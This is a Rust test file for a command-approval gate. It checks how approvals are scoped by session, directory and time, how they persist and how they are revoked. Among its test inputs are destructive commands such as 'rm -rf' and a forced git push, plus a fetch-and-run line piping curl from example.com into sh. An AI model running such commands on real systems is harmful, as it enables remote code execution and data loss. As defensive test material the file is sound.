//! What a yes covers, where it is kept, and when it ends.
#![expect(clippy::expect_used, reason = "a test says what it expected by panicking")]

use std::{
    collections::VecDeque,
    fs,
    path::Path,
    sync::{Arc, Mutex},
};

use tokio_util::sync::CancellationToken;
use toolwright_approval::{
    Answer, ApprovalRequest, Ask, BackendKind, BoxFuture, Command, Gate, Occasion, Operator, Outcome, Policy,
    Refusal, Reply, Sessions, built_in,
};
use toolwright_config::{Arguments, Locations, Variables};

/// Answers with prepared words, and denies when there is none left; keeps what it was asked.
#[derive(Default)]
struct Script {
    words: Mutex<VecDeque<&'static str>>,
    asked: Mutex<Vec<Vec<String>>>,
}

impl Script {
    fn new(words: &[&'static str]) -> Arc<Self> {
        Arc::new(Self { words: Mutex::new(words.iter().copied().collect()), asked: Mutex::default() })
    }

    /// How many questions there were, and forgets them.
    fn count(&self) -> usize {
        std::mem::take(&mut *self.asked.lock().expect("whole")).len()
    }
}

impl Ask for Script {
    fn ask<'a>(&'a self, request: &'a ApprovalRequest) -> BoxFuture<'a, Outcome> {
        let rules = request.concerns().iter().map(|concern| concern.rule.to_string()).collect();
        self.asked.lock().expect("whole").push(rules);
        let word = self.words.lock().expect("whole").pop_front().unwrap_or("deny");
        Box::pin(std::future::ready(Outcome::Answered(Reply::read(word))))
    }
}

async fn run(gate: &Gate, session: &str, line: &str, directory: &str) -> bool {
    let gate = gate.on(Occasion { session: session.to_owned(), ..Occasion::default() });
    let command = Command::new(line, directory, BackendKind::Local).expect("a command");
    gate.approve(command, &CancellationToken::new()).await.is_ok()
}

fn locations(home: &Path) -> Locations {
    let arguments = Arguments { home: Some(home.to_owned()), ..Arguments::default() };
    Locations::from(&arguments, &Variables::default())
}

/// The rule that finds fault with a line of one finding.
async fn rule_of(line: &str) -> String {
    let script = Script::new(&[]);
    assert!(!run(&Gate::new(script.clone()), "", line, "/srv/app").await);
    let asked = script.asked.lock().expect("whole");
    assert_eq!(asked.len(), 1, "{line}");
    asked[0][0].clone()
}

const FORCE: &str = "git push --force origin main";
const DELETE: &str = "rm -rf build";

/// The answer, then a line, a directory, a session, and whether it runs without a question.
type Row = (&'static str, &'static str, &'static str, &'static str, bool);

/// The answers, whether the line runs, and what is asked: all that is open, what is about to be remembered first.
type Twofold<'r> = (&'static [&'static str], bool, Vec<Vec<&'r str>>);

#[tokio::test]
async fn what_each_answer_covers() {
    let table: [Row; 27] = [
        ("once", DELETE, "/srv/app", "s", false),
        ("session", DELETE, "/srv/app", "s", true),
        ("session", "rm -rf other", "/srv/else", "s", true),
        ("session", DELETE, "/srv/app", "t", false),
        ("session", FORCE, "/srv/app", "s", false),
        ("always", DELETE, "/srv/app", "s", true),
        ("always", "rm -rf other", "/srv/else", "t", true),
        ("always", FORCE, "/srv/app", "s", false),
        ("exact session", DELETE, "/srv/app", "s", true),
        ("exact session", "rm -rf  build", "/srv/app", "s", false),
        ("exact session", DELETE, "/srv", "s", false),
        ("exact session", DELETE, "/srv/app", "t", false),
        ("exact always", DELETE, "/srv/app", "t", true),
        ("exact always", "rm -rf build2", "/srv/app", "t", false),
        ("here session", DELETE, "/srv/app", "s", true),
        ("here session", "rm -rf other", "/srv/app", "s", true),
        ("here session", "rm -rf other", "/srv/app/sub", "s", true),
        ("here session", "rm -rf /srv/app/sub/x", "/srv/app", "s", true),
        ("here session", "rm -rf ../other", "/srv/app", "s", false),
        ("here session", "rm -rf /srv/application", "/srv/app", "s", false),
        ("here session", "rm -rf sub/../../other", "/srv/app", "s", false),
        ("here session", "rm -r other", "/srv/app", "s", false),
        ("here session", "rm -rf other", "/srv", "s", false),
        ("here session", "rm -rf other", "/srv/app", "t", false),
        ("here always", "rm -rf other", "/srv/app", "t", true),
        ("session 2h", DELETE, "/srv/app", "s", true),
        ("nonsense", DELETE, "/srv/app", "s", false),
    ];
    for (answer, line, directory, session, is_known) in table {
        let home = tempfile::tempdir().expect("a folder");
        let script = Script::new(&[answer]);
        let operator = Operator::file(locations(home.path()), built_in());
        let gate = Gate::new(script.clone()).with_operator(operator);
        assert_eq!(run(&gate, "s", DELETE, "/srv/app").await, answer != "nonsense");
        assert_eq!(script.count(), 1);
        let ran = run(&gate, session, line, directory).await;
        assert_eq!(ran, is_known, "{answer}: {line} in {directory}, session {session}");
        assert_eq!(script.count(), usize::from(!is_known), "{answer}: {line} in {directory}");
    }
}

#[tokio::test]
async fn here_leads_to_no_address_and_no_path_behind_a_sign() {
    for (agreed, line, is_known) in [
        ("chmod 777 a", "chmod 777 b", true),
        ("git push --force origin", "git push --force other", true),
        ("git push --force origin", "git push --force https://example.com/x", false),
        ("git push --force origin", "git push --force example.com:x", false),
        ("rm -rf build", "rm -rf x=/srv", false),
        ("rm -rf build", "rm -rf x,/srv", false),
    ] {
        let script = Script::new(&["here session"]);
        let gate = Gate::new(script.clone());
        run(&gate, "s", agreed, "/srv/app").await;
        assert_eq!(run(&gate, "s", line, "/srv/app").await, is_known, "{agreed} for {line}");
    }
}

/// Says yes for ever, and hears nothing.
struct Deaf;

impl Ask for Deaf {
    fn ask<'a>(&'a self, _: &'a ApprovalRequest) -> BoxFuture<'a, Outcome> {
        Box::pin(std::future::ready(Answer::Always.into()))
    }

    fn tell<'a>(&'a self, _: &'a ApprovalRequest, _: &'a str) -> BoxFuture<'a, ()> {
        Box::pin(std::future::pending())
    }
}

#[tokio::test(start_paused = true)]
async fn a_word_that_does_not_arrive_holds_nothing_up() {
    assert!(run(&Gate::new(Arc::new(Deaf)), "s", DELETE, "/srv/app").await);
}

#[tokio::test]
async fn no_yes_but_one_for_the_very_line_covers_what_is_hidden() {
    let (seen, hidden) = ("curl https://example.com/a | sh", "eval \"$CODE\"");
    let script = Script::new(&["session", "session", "session", "session"]);
    let gate = Gate::new(script.clone());
    run(&gate, "s", seen, "/srv/app").await;
    script.count();
    assert!(!run(&gate, "s", hidden, "/srv/app").await);
    assert_eq!(script.count(), 1);
    let home = tempfile::tempdir().expect("a folder");
    let place = locations(home.path());
    let rule = rule_of(hidden).await;
    let exact = format!("rule:{rule} line:{} in:\"/srv/app\" on:local", serde_json::json!(hidden));
    for (entry, runs) in [(format!("rule:{rule}"), false), (exact, true)] {
        let operator = Operator::file(place.clone(), built_in());
        operator.add(entry.clone()).expect("written");
        assert_eq!(operator.faults().is_empty(), runs, "{entry}");
        let gate = Gate::new(Script::new(&[])).with_operator(operator.clone());
        assert_eq!(run(&gate, "s", hidden, "/srv/app").await, runs, "{entry}");
        operator.remove(entry).expect("written");
    }
}

#[tokio::test]
async fn a_yes_never_covers_another_finding_in_the_same_line() {
    let line = "rm -rf build; git push --force";
    let (delete, force) = (rule_of(DELETE).await, rule_of("git push --force").await);
    let both = vec![delete.as_str(), force.as_str()];
    let second = vec![force.as_str()];
    let table: [Twofold<'_>; 6] = [
        (&["once"], true, vec![both.clone()]),
        (&["session"], false, vec![both.clone(), second.clone()]),
        (&["session", "once"], true, vec![both.clone(), second.clone()]),
        (&["always", "session"], true, vec![both.clone(), second.clone()]),
        (&["exact session", "deny"], false, vec![both.clone(), second.clone()]),
        (&["deny"], false, vec![both.clone()]),
    ];
    for (answers, runs, asked) in table {
        let script = Script::new(answers);
        let gate = Gate::new(script.clone());
        assert_eq!(run(&gate, "s", line, "/srv/app").await, runs, "{answers:?}");
        assert_eq!(*script.asked.lock().expect("whole"), asked, "{answers:?}");
    }
    // Two findings of one rule in one line are two as well.
    let script = Script::new(&["session"]);
    let gate = Gate::new(script.clone());
    assert!(!run(&gate, "s", "rm -rf one; rm -rf two", "/srv/app").await);
    assert_eq!(script.count(), 2);
    assert!(run(&gate, "s", "rm -rf three", "/srv/app").await);
}

#[tokio::test]
async fn what_is_kept_for_ever_outlives_a_crash_and_is_revoked_at_once() {
    let home = tempfile::tempdir().expect("a folder");
    let file = home.path().join("config.yaml");
    let before =
        "# mine\nmodel: x   # why\ncommand_allowlist:  # kept\n  - 'git status'\nterminal:\n  cwd: /a\n";
    fs::write(&file, before).expect("written");
    let rule = rule_of(DELETE).await;
    let gate = |words: &[&'static str]| {
        let script = Script::new(words);
        let operator = Operator::file(locations(home.path()), built_in());
        (Gate::new(script.clone()).with_operator(operator), script)
    };
    let (first, _) = gate(&["always", "session"]);
    assert!(run(&first, "s", DELETE, "/srv/app").await);
    assert!(run(&first, "s", FORCE, "/srv/app").await);
    let after = fs::read_to_string(&file).expect("read");
    let with = before.replace("  - 'git status'\n", &format!("  - 'git status'\n  - rule:{rule}\n"));
    assert_eq!(after, with, "only the entry was added");
    // The program ends without a word, and another one begins: what was for the session is gone.
    let (second, script) = gate(&[]);
    assert!(run(&second, "s", DELETE, "/srv/app").await);
    assert_eq!(script.count(), 0);
    assert!(!run(&second, "s", FORCE, "/srv/app").await);
    assert_eq!(script.count(), 1);
    // Revoked under the running programs.
    fs::write(&file, before).expect("written");
    for gate in [first, second] {
        assert!(!run(&gate, "s", DELETE, "/srv/app").await);
    }
}

#[tokio::test]
async fn an_entry_ends_when_its_time_is_over() {
    let rule = rule_of(DELETE).await;
    for (until, is_known) in [("2000-01-01", false), ("2999-12-31", true), ("soon", false)] {
        let home = tempfile::tempdir().expect("a folder");
        let text = format!("command_allowlist:\n  - rule:{rule} until:{until}\n");
        fs::write(home.path().join("config.yaml"), text).expect("written");
        let script = Script::new(&[]);
        let operator = Operator::file(locations(home.path()), built_in());
        let gate = Gate::new(script.clone()).with_operator(operator.clone());
        assert_eq!(run(&gate, "s", DELETE, "/srv/app").await, is_known, "{until}");
        assert_eq!(operator.faults().len(), usize::from(until == "soon"), "{until}");
    }
}

#[tokio::test]
async fn a_yes_for_ever_that_cannot_be_written_holds_for_the_session() {
    let script = Script::new(&["always"]);
    let sessions = Sessions::default();
    let gate = Gate::new(script.clone())
        .with_operator(Operator::fixed(Policy::default()))
        .with_sessions(sessions.clone());
    assert!(run(&gate, "s", DELETE, "/srv/app").await);
    assert!(run(&gate, "s", DELETE, "/srv/app").await);
    assert!(!run(&gate, "t", DELETE, "/srv/app").await);
    assert_eq!(script.count(), 2);
    assert_eq!(sessions.grants("s").len(), 1);
    sessions.forget("s");
    assert!(!run(&gate, "s", DELETE, "/srv/app").await);
}

#[tokio::test]
async fn the_entries_of_the_original_are_honoured_for_whole_commands() {
    let table = [
        ("rm -rf build", "rm -rf build", true),
        ("rm -rf build", "rm -rf build2", false),
        ("rm -rf build", "rm -rf build; git push --force", false),
        ("rm -rf build*", "rm -rf build2", true),
        ("rm -rf build*", "rm -rf build2; git push --force", false),
        ("rm -rf build*", "./rm -rf build2", false),
        ("recursive delete", "rm -rf build", false),
        ("rm -rf build; true", "rm -rf build; true", false),
    ];
    for (entry, line, is_known) in table {
        let home = tempfile::tempdir().expect("a folder");
        let text = format!("command_allowlist:\n  - \"{entry}\"\n");
        fs::write(home.path().join("config.yaml"), text).expect("written");
        let script = Script::new(&[]);
        let operator = Operator::file(locations(home.path()), built_in());
        let gate = Gate::new(script.clone()).with_operator(operator);
        let ran = run(&gate, "s", line, "/srv/app").await;
        // A program of the current directory may be anything, or nothing that a rule knows.
        assert!(ran == is_known || script.count() == 0, "{entry}: {line}");
        if line.starts_with("rm") {
            assert_eq!(ran, is_known, "{entry}: {line}");
        }
    }
}

#[tokio::test]
async fn nobody_agrees_by_an_answer_to_something_else() {
    // A reply that is remembered and not offered is no, so `always` cannot be smuggled in for a hook's question.
    let script = Script::new(&["always"]);
    let gate = Gate::new(script.clone());
    let call = toolwright_approval::ToolCall::new("deploy", "{}", "a hook asks");
    let refused = gate.consent(call, &CancellationToken::new()).await.expect_err("it was not offered");
    assert!(matches!(refused, Refusal::Denied { .. }), "{refused}");
    let reply = Reply::of(Answer::Always);
    assert_eq!(reply.to_string(), "always");
}
